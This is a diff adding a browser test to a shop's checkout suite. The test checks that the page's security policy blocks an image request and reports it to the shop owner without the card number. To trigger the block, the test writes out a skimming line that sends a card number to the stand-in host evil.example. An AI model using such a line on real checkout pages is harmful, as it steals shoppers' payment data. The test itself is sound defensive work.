@@ -152,3 +152,18 @@ test.describe('on a phone', () => {
     });
   }
 });
+
+test('what a browser refuses on a page is told to whoever runs the shop, with the change and without the card', async ({
+  page,
+  shop,
+}) => {
+  const shopping = new ShopPage(page, shop);
+  await shopping.checkout('form');
+  await page.evaluate((card) => {
+    new Image().src = `https://evil.example/pixel?card=${card}`;
+  }, VISA.number);
+  const told = () => shop.noted.join('\n');
+  await expect.poll(told).toContain('The policy refused an image (https://evil.example)');
+  expect(told()).toContain('change, only if you know it: Add https://evil.example to img-src');
+  expect(told()).not.toContain(VISA.number);
+});
